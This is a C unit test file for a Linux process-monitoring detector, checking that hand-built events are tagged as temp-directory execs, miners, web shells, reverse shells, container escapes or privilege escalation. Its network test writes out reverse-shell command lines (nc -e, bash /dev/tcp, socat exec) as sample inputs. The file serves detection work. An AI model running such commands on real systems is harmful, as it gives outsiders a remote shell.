/* SPDX-License-Identifier: MIT */
/* The per-event detectors on hand-made events, near misses included. */
#include "config.h"

#include <setjmp.h>
#include <signal.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <string.h>

#include <cmocka.h>

#include "detect.h"
#include "lineage.h"

static struct sw_rules rules;
static struct sw_event ev;

/* An exec of exe with argv given as "a\0b\0" and its length. */
static void exec_(const char *exe, const char *cwd, const char *argv, size_t n)
{
	sw_event_reset(&ev, SW_EV_EXEC);
	ev.pid = ev.tid = 100;
	ev.exe = exe;
	ev.cwd = cwd;
	ev.argv = argv;
	ev.argv_len = n;
	ev.have = (exe ? SW_HAVE_EXE : 0) | (argv ? SW_HAVE_ARGV : 0) |
		  (cwd ? SW_HAVE_CWD : 0);
	sw_detect_event(&rules, &ev);
}

#define EXEC(exe, cwd, argv) exec_(exe, cwd, argv, sizeof(argv))

static bool tagged(const char *tag)
{
	for (unsigned i = 0; i < ev.n_tags; i++)
		if (strcmp(ev.tags[i], tag) == 0)
			return true;
	return false;
}

static int setup(void **state)
{
	sw_rules_defaults(&rules);
	return 0;
}

static void test_tmp(void **state)
{
	EXEC("/tmp/x", "/", "/tmp/x");
	assert_true(tagged("exec-from-tmp"));
	EXEC("/var/tmp/a/b", "/", "b");
	assert_true(tagged("exec-from-tmp"));
	EXEC("/dev/shm/k", "/", "k");
	assert_true(tagged("exec-from-tmp"));
	/* Near misses: a prefix that is not the directory, the system. */
	EXEC("/tmpfs/x", "/", "x");
	assert_int_equal(ev.n_tags, 0);
	EXEC("/usr/bin/sleep", "/tmp", "sleep\0" "1");
	assert_int_equal(ev.n_tags, 0);
	/* Scripts: the interpreter's operand, resolved against cwd. */
	EXEC("/usr/bin/dash", "/tmp", "sh\0" "./x.sh");
	assert_true(tagged("exec-from-tmp"));
	EXEC("/usr/bin/bash", "/home/u", "bash\0" "-x\0" "/tmp/../tmp/y.sh");
	assert_true(tagged("exec-from-tmp"));
	EXEC("/usr/bin/bash", "/tmp", "bash\0" "../etc/x.sh");
	assert_int_equal(ev.n_tags, 0);
	EXEC("/usr/bin/dash", "/tmp", "sh\0" "-c\0" "/tmp/x");	/* a command */
	assert_int_equal(ev.n_tags, 0);
	EXEC("/usr/bin/python3.11", "/tmp", "python3\0" "x.py");	/* not listed */
	assert_int_equal(ev.n_tags, 0);
	/* The dynamic loader runs its operand. */
	EXEC("/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2", "/",
	     "ld.so\0" "/dev/shm/payload");
	assert_true(tagged("exec-from-tmp"));
	rules.exec.tmp_enabled = false;
	EXEC("/tmp/x", "/", "/tmp/x");
	assert_int_equal(ev.n_tags, 0);
}

static void test_hidden_deleted_memfd(void **state)
{
	EXEC("/home/u/.cache/.update", "/", ".update");
	assert_true(tagged("hidden-exe"));
	assert_false(tagged("exec-from-tmp"));
	EXEC("/home/u/.cache/update", "/", "update");	/* a dot directory only */
	assert_int_equal(ev.n_tags, 0);
	EXEC("/usr/bin/python3 (deleted)", "/", "python3");
	assert_true(tagged("deleted-exe"));
	EXEC("/tmp/.x (deleted)", "/", "x");
	assert_true(tagged("deleted-exe"));
	assert_true(tagged("exec-from-tmp"));
	assert_true(tagged("hidden-exe"));
	EXEC("/memfd:payload (deleted)", "/", "x");
	assert_true(tagged("memfd-exec"));
	assert_false(tagged("deleted-exe"));
	EXEC("/usr/bin/memfd:x", "/", "x");
	assert_int_equal(ev.n_tags, 0);
}

static void test_miner(void **state)
{
	EXEC("/opt/x/xmrig", "/", "xmrig");
	assert_true(tagged("miner"));
	EXEC("/usr/bin/java", "/", "java\0" "-jar\0" "m.jar\0" "-o\0"
	     "stratum+ssl://pool:443");
	assert_true(tagged("miner"));
	EXEC("/usr/bin/curl", "/", "curl\0" "https://stratum.example/");
	assert_int_equal(ev.n_tags, 0);
	EXEC("/opt/xmrig-docs/README", "/", "less");	/* only the name counts */
	assert_int_equal(ev.n_tags, 0);
	/* No exe and no argv: nothing to judge, nothing tagged. */
	exec_(NULL, NULL, NULL, 0);
	assert_int_equal(ev.n_tags, 0);
}

/* An exec whose parent is the given program (comm, exe). */
static void child_of(const char *pcomm, const char *pexe, const char *exe,
		     const char *argv, size_t n)
{
	sw_event_reset(&ev, SW_EV_EXEC);
	ev.exe = exe;
	ev.argv = argv;
	ev.argv_len = n;
	ev.have = SW_HAVE_EXE | SW_HAVE_ARGV;
	ev.ancestry[0].pid = 1;
	ev.ancestry[0].comm = pcomm;
	ev.ancestry[0].exe = pexe;
	ev.n_ancestry = 1;
	sw_detect_event(&rules, &ev);
}

#define CHILD(pc, pe, exe, argv) child_of(pc, pe, exe, argv, sizeof(argv))

static void test_net(void **state)
{
	CHILD("nginx", "/usr/sbin/nginx", "/usr/bin/dash", "sh\0-c\0id");
	assert_true(tagged("web-shell"));
	CHILD("php-fpm8.2", "/usr/sbin/php-fpm8.2", "/usr/bin/id", "id");
	assert_true(tagged("web-shell"));
	CHILD("java", "/usr/lib/jvm/bin/java", "/usr/bin/cat", "cat\0/etc/passwd");
	assert_true(tagged("web-shell"));
	/* Near misses: nginx starting its worker, cat of a page, bash's child. */
	CHILD("nginx", "/usr/sbin/nginx", "/usr/sbin/nginx", "nginx\0-g\0x");
	assert_int_equal(ev.n_tags, 0);
	CHILD("nginx", "/usr/sbin/nginx", "/usr/bin/cat", "cat\0/var/www/index.html");
	assert_int_equal(ev.n_tags, 0);
	CHILD("bash", "/usr/bin/bash", "/usr/bin/id", "id");
	assert_int_equal(ev.n_tags, 0);
	CHILD("nginxtool", "/opt/nginxtool", "/usr/bin/id", "id");
	assert_int_equal(ev.n_tags, 0);

	EXEC("/usr/bin/nc.openbsd", "/", "nc\0-e\0/bin/sh\0" "10.0.0.1\0" "4444");
	assert_true(tagged("reverse-shell"));
	EXEC("/usr/bin/ncat", "/", "ncat\0--sh-exec\0sh\0h\0" "1");
	assert_true(tagged("reverse-shell"));
	EXEC("/usr/bin/socat", "/", "socat\0tcp:h:1\0exec:/bin/sh");
	assert_true(tagged("reverse-shell"));
	EXEC("/usr/bin/bash", "/", "bash\0-c\0bash -i >& /dev/tcp/10.0.0.1/4444 0>&1");
	assert_true(tagged("reverse-shell"));
	EXEC("/usr/bin/nc.openbsd", "/", "nc\0-zv\0host\0" "22");
	assert_int_equal(ev.n_tags, 0);
	EXEC("/usr/bin/cat", "/", "cat\0/dev/tcp/x");	/* not a shell */
	assert_int_equal(ev.n_tags, 0);

	EXEC("/usr/bin/nc.openbsd", "/", "nc\0-lvnp\0" "4444");
	assert_true(tagged("network-listener"));
	assert_false(tagged("reverse-shell"));
	EXEC("/usr/bin/socat", "/", "socat\0TCP-LISTEN:4444\0STDOUT");
	assert_true(tagged("network-listener"));
	EXEC("/usr/bin/socat", "/", "socat\0-\0TCP:h:80");
	assert_int_equal(ev.n_tags, 0);
}

static void test_ptrace(void **state)
{
	const char *tracers[] = { "gdb", "strace", "perf", "injector", NULL };

	for (int i = 0; i < 5; i++) {
		sw_event_reset(&ev, SW_EV_PTRACE);
		ev.u.ptrace.tracer_pid = 7;
		ev.u.ptrace.tracer_comm = tracers[i];
		sw_detect_event(&rules, &ev);
		assert_int_equal(tagged("ptrace-attach"), i >= 3);
	}
	sw_event_reset(&ev, SW_EV_PTRACE);	/* a detach is not an attach */
	ev.u.ptrace.tracer_comm = "injector";
	sw_detect_event(&rules, &ev);
	assert_int_equal(ev.n_tags, 0);
}

/* An exec now in mnt namespace now, before in prev, parent in parent. */
static void ns_exec(uint64_t now, uint64_t prev, uint64_t parent)
{
	sw_event_reset(&ev, SW_EV_EXEC);
	ev.have = SW_HAVE_NS;
	ev.mntns = now;
	ev.pidns = rules.escape.host_pidns;
	if (prev) {
		ev.u.exec.prev_mntns = prev;
		ev.u.exec.prev_pidns = rules.escape.host_pidns;
		ev.u.exec.have_prev_ns = true;
	}
	if (parent) {
		ev.parent_mntns = parent;
		ev.parent_pidns = rules.escape.host_pidns;
		ev.have |= SW_HAVE_PARENT_NS;
	}
	sw_detect_event(&rules, &ev);
}

static void test_escape(void **state)
{
	uint64_t host = 4026531841ull, box = 4026532999ull;

	rules.escape.host_mntns = host;
	rules.escape.host_pidns = 4026531836ull;
	ns_exec(host, box, box);	/* nsenter into the host */
	assert_true(tagged("container-escape"));
	ns_exec(host, box, 0);
	assert_true(tagged("container-escape"));
	ns_exec(host, 0, box);
	assert_true(tagged("container-escape"));
	ns_exec(host, host, host);	/* a host process */
	assert_int_equal(ev.n_tags, 0);
	ns_exec(box, host, host);	/* entering a container */
	assert_int_equal(ev.n_tags, 0);
	ns_exec(host, 0, 0);		/* nothing known before */
	assert_int_equal(ev.n_tags, 0);
	rules.escape.host_mntns = 0;	/* own namespace unreadable */
	ns_exec(0, box, box);
	assert_int_equal(ev.n_tags, 0);
}

static void uid_event(uint32_t prev_e, uint32_t e, const char *exe_now,
		      const char *exe_table)
{
	sw_event_reset(&ev, SW_EV_UID);
	ev.pid = ev.tid = 5;
	ev.u.id.e = e;
	ev.u.id.prev_e = prev_e;
	ev.u.id.have_prev = true;
	ev.u.id.exe = exe_now;
	ev.exe = exe_table;
	ev.have = SW_HAVE_EXE;
	sw_detect_event(&rules, &ev);
}

static void test_priv(void **state)
{
	uid_event(1000, 0, "/tmp/suid-id", "/usr/bin/bash");
	assert_true(tagged("privilege-escalation"));
	/* The program running at the gain counts, not the table's old one. */
	uid_event(1000, 0, "/usr/bin/sudo", "/usr/bin/bash");
	assert_int_equal(ev.n_tags, 0);
	uid_event(1000, 0, NULL, "/usr/bin/su");	/* gone: the table's */
	assert_int_equal(ev.n_tags, 0);
	uid_event(0, 0, "/x", "/x");			/* root already */
	assert_int_equal(ev.n_tags, 0);
	uid_event(0, 1000, "/x", "/x");			/* dropping root */
	assert_int_equal(ev.n_tags, 0);
	/* An exec as root under a parent that is not root. */
	sw_event_reset(&ev, SW_EV_EXEC);
	ev.exe = "/opt/x";
	ev.euid = 0;
	ev.parent_euid = 1000;
	ev.have = SW_HAVE_EXE | SW_HAVE_CREDS | SW_HAVE_PARENT_CREDS;
	sw_detect_event(&rules, &ev);
	assert_true(tagged("privilege-escalation"));
	ev.n_tags = 0;
	ev.parent_euid = 0;
	sw_detect_event(&rules, &ev);
	assert_int_equal(ev.n_tags, 0);
}

static void test_exit(void **state)
{
	sw_event_reset(&ev, SW_EV_EXIT);
	ev.u.exit.signal = SIGKILL;
	sw_detect_event(&rules, &ev);
	assert_true(tagged("killed"));
	sw_event_reset(&ev, SW_EV_EXIT);
	ev.u.exit.signal = SIGTERM;
	sw_detect_event(&rules, &ev);
	assert_int_equal(ev.n_tags, 0);
	sw_event_reset(&ev, SW_EV_EXIT);
	ev.u.exit.signal = SIGSEGV;
	ev.u.exit.core = true;
	sw_detect_event(&rules, &ev);
	assert_true(tagged("coredump"));
	sw_event_reset(&ev, SW_EV_COREDUMP);
	sw_detect_event(&rules, &ev);
	assert_true(tagged("coredump"));
	/* A thread's exit is not the process being killed. */
	sw_event_reset(&ev, SW_EV_EXIT);
	ev.thread = true;
	ev.u.exit.signal = SIGKILL;
	sw_detect_event(&rules, &ev);
	assert_int_equal(ev.n_tags, 0);
}

static unsigned n_anomalies;
static struct sw_event last;

static void on_anomaly(struct sw_event *a, void *data)
{
	n_anomalies++;
	memcpy(&last, a, offsetof(struct sw_event, ancestry));
}

static void fork_at(struct sw_lineage *l, int parent, int pid, uint64_t t,
		    bool thread)
{
	struct sw_event e;

	sw_event_reset(&e, SW_EV_FORK);
	e.pid = thread ? parent : pid;
	e.tid = pid;
	e.thread = thread;
	e.u.fork.parent_pid = e.u.fork.parent_tid = parent;
	e.ktime_ns = t;
	sw_lineage_apply(l, &e);
}

static void exit_at(struct sw_lineage *l, int pid, uint64_t t)
{
	struct sw_event e;

	sw_event_reset(&e, SW_EV_EXIT);
	e.pid = e.tid = pid;
	e.ktime_ns = t;
	sw_lineage_apply(l, &e);
}

static void fork_exit(struct sw_lineage *l, int parent, int pid, bool exit)
{
	struct sw_event e;

	fork_at(l, parent, pid, 1000000000ull + (uint64_t)pid, false);
	if (!exit)
		return;
	sw_event_reset(&e, SW_EV_EXIT);
	e.pid = e.tid = pid;
	e.ktime_ns = 2000000000ull;
	sw_lineage_apply(l, &e);
}

/* Raised once per crossing, re-armed when the count falls back. */
static void test_zombies(void **state)
{
	struct sw_lineage_conf conf = { .cap = 1000, .zombie_cap = 1000,
					.gone_cap = 1000, .ancestry = 8,
					.linger_ns = 1, .procfd = -1 };
	struct sw_stats st = { 0 };
	struct sw_users *u = sw_users_new();
	struct sw_lineage *l = sw_lineage_new(&conf, &st, u);
	struct sw_event scratch;

	assert_non_null(l);
	fork_exit(l, 0, 10, false);
	for (int pid = 100; pid < 199; pid++)
		fork_exit(l, 10, pid, true);
	sw_detect_tick(&rules, l, 3000000000ull, &scratch, on_anomaly, NULL);
	assert_int_equal(n_anomalies, 0);	/* 99: one short */
	fork_exit(l, 10, 199, true);
	sw_detect_tick(&rules, l, 3000000000ull, &scratch, on_anomaly, NULL);
	assert_int_equal(n_anomalies, 1);
	assert_int_equal(last.type, SW_EV_ANOMALY);
	assert_int_equal(last.pid, 10);
	assert_string_equal(last.u.anomaly.tag, "zombie-accumulation");
	assert_int_equal(last.u.anomaly.count, 100);
	assert_int_equal(last.u.anomaly.threshold, 100);
	assert_true(last.u.anomaly.oldest_s > 0.99 && last.u.anomaly.oldest_s < 1.01);
	sw_detect_tick(&rules, l, 4000000000ull, &scratch, on_anomaly, NULL);
	assert_int_equal(n_anomalies, 1);	/* still there: said once */
	for (int pid = 100; pid < 130; pid++)
		sw_lineage_mark_reaped(l, sw_lineage_find(l, pid), 4000000000ull);
	sw_detect_tick(&rules, l, 5000000000ull, &scratch, on_anomaly, NULL);
	assert_int_equal(n_anomalies, 1);
	for (int pid = 200; pid < 230; pid++)
		fork_exit(l, 10, pid, true);
	sw_detect_tick(&rules, l, 6000000000ull, &scratch, on_anomaly, NULL);
	assert_int_equal(n_anomalies, 2);	/* crossed again */
	rules.zombie.enabled = false;
	for (int pid = 100; pid < 230; pid++) {
		struct sw_proc *p = sw_lineage_find(l, pid);

		if (p)
			sw_lineage_mark_reaped(l, p, 7000000000ull);
	}
	sw_detect_tick(&rules, l, 7000000000ull, &scratch, on_anomaly, NULL);
	assert_int_equal(n_anomalies, 2);
	sw_lineage_free(l);
	sw_users_free(u);
}

#define S 1000000000ull

/* Many alive at once is a storm; as many one after another is not. */
static void test_storm(void **state)
{
	struct sw_lineage_conf conf = { .cap = 5000, .zombie_cap = 5000,
					.gone_cap = 5000, .ancestry = 8,
					.linger_ns = 1, .procfd = -1 };
	struct sw_stats st = { 0 };
	struct sw_users *u = sw_users_new();
	struct sw_lineage *l = sw_lineage_new(&conf, &st, u);
	struct sw_event scratch;
	int pid = 1000;

	assert_non_null(l);
	n_anomalies = 0;
	fork_at(l, 0, 10, 1 * S, false);	/* a make-like parent */
	fork_at(l, 0, 20, 1 * S, false);	/* a storming parent */
	/* 1000 children one after another within 5 s: never 2 alive. */
	for (int i = 0; i < 1000; i++, pid++) {
		fork_at(l, 10, pid, 10 * S + (uint64_t)i * 5000000, false);
		exit_at(l, pid, 10 * S + (uint64_t)i * 5000000 + 1000);
		sw_lineage_mark_reaped(l, sw_lineage_find(l, pid), 10 * S);
	}
	/* 10,000 threads of one process are not children. */
	for (int i = 0; i < 10000; i++)
		fork_at(l, 20, 50000 + i, 15 * S, true);
	sw_detect_tick(&rules, l, 15 * S, &scratch, on_anomaly, NULL);
	assert_int_equal(n_anomalies, 0);
	/* 199 alive children: one short. */
	for (int i = 0; i < 199; i++, pid++)
		fork_at(l, 20, pid, 16 * S, false);
	sw_detect_tick(&rules, l, 16 * S, &scratch, on_anomaly, NULL);
	assert_int_equal(n_anomalies, 0);
	fork_at(l, 20, pid++, 17 * S, false);
	sw_detect_tick(&rules, l, 17 * S, &scratch, on_anomaly, NULL);
	assert_int_equal(n_anomalies, 1);
	assert_int_equal(last.pid, 20);
	assert_string_equal(last.u.anomaly.tag, "spawn-storm");
	assert_int_equal(last.u.anomaly.count, 200);
	assert_int_equal(last.u.anomaly.threshold, 200);
	sw_detect_tick(&rules, l, 18 * S, &scratch, on_anomaly, NULL);
	assert_int_equal(n_anomalies, 1);	/* said once */
	/* The window slides past: calm, re-armed, then a second storm. */
	sw_detect_tick(&rules, l, 40 * S, &scratch, on_anomaly, NULL);
	for (int i = 0; i < 200; i++, pid++)
		fork_at(l, 20, pid, 41 * S, false);
	sw_detect_tick(&rules, l, 41 * S, &scratch, on_anomaly, NULL);
	assert_int_equal(n_anomalies, 2);
	sw_lineage_free(l);
	sw_users_free(u);
}

static void test_tag_room(void **state)
{
	static const char *const t[] = { "t0", "t1", "t2", "t3", "t4", "t5",
					 "t6", "t7", "t8" };

	sw_event_reset(&ev, SW_EV_EXEC);
	for (unsigned i = 0; i < SW_TAGS_MAX; i++)
		assert_true(sw_detect_tag(&ev, t[i]));
	assert_true(sw_detect_tag(&ev, "t3"));	/* already there */
	assert_false(sw_detect_tag(&ev, t[SW_TAGS_MAX]));
	assert_int_equal(ev.n_tags, SW_TAGS_MAX);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup(test_tmp, setup),
		cmocka_unit_test_setup(test_hidden_deleted_memfd, setup),
		cmocka_unit_test_setup(test_miner, setup),
		cmocka_unit_test_setup(test_exit, setup),
		cmocka_unit_test_setup(test_net, setup),
		cmocka_unit_test_setup(test_ptrace, setup),
		cmocka_unit_test_setup(test_zombies, setup),
		cmocka_unit_test_setup(test_storm, setup),
		cmocka_unit_test_setup(test_escape, setup),
		cmocka_unit_test_setup(test_priv, setup),
		cmocka_unit_test_setup(test_tag_room, setup),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
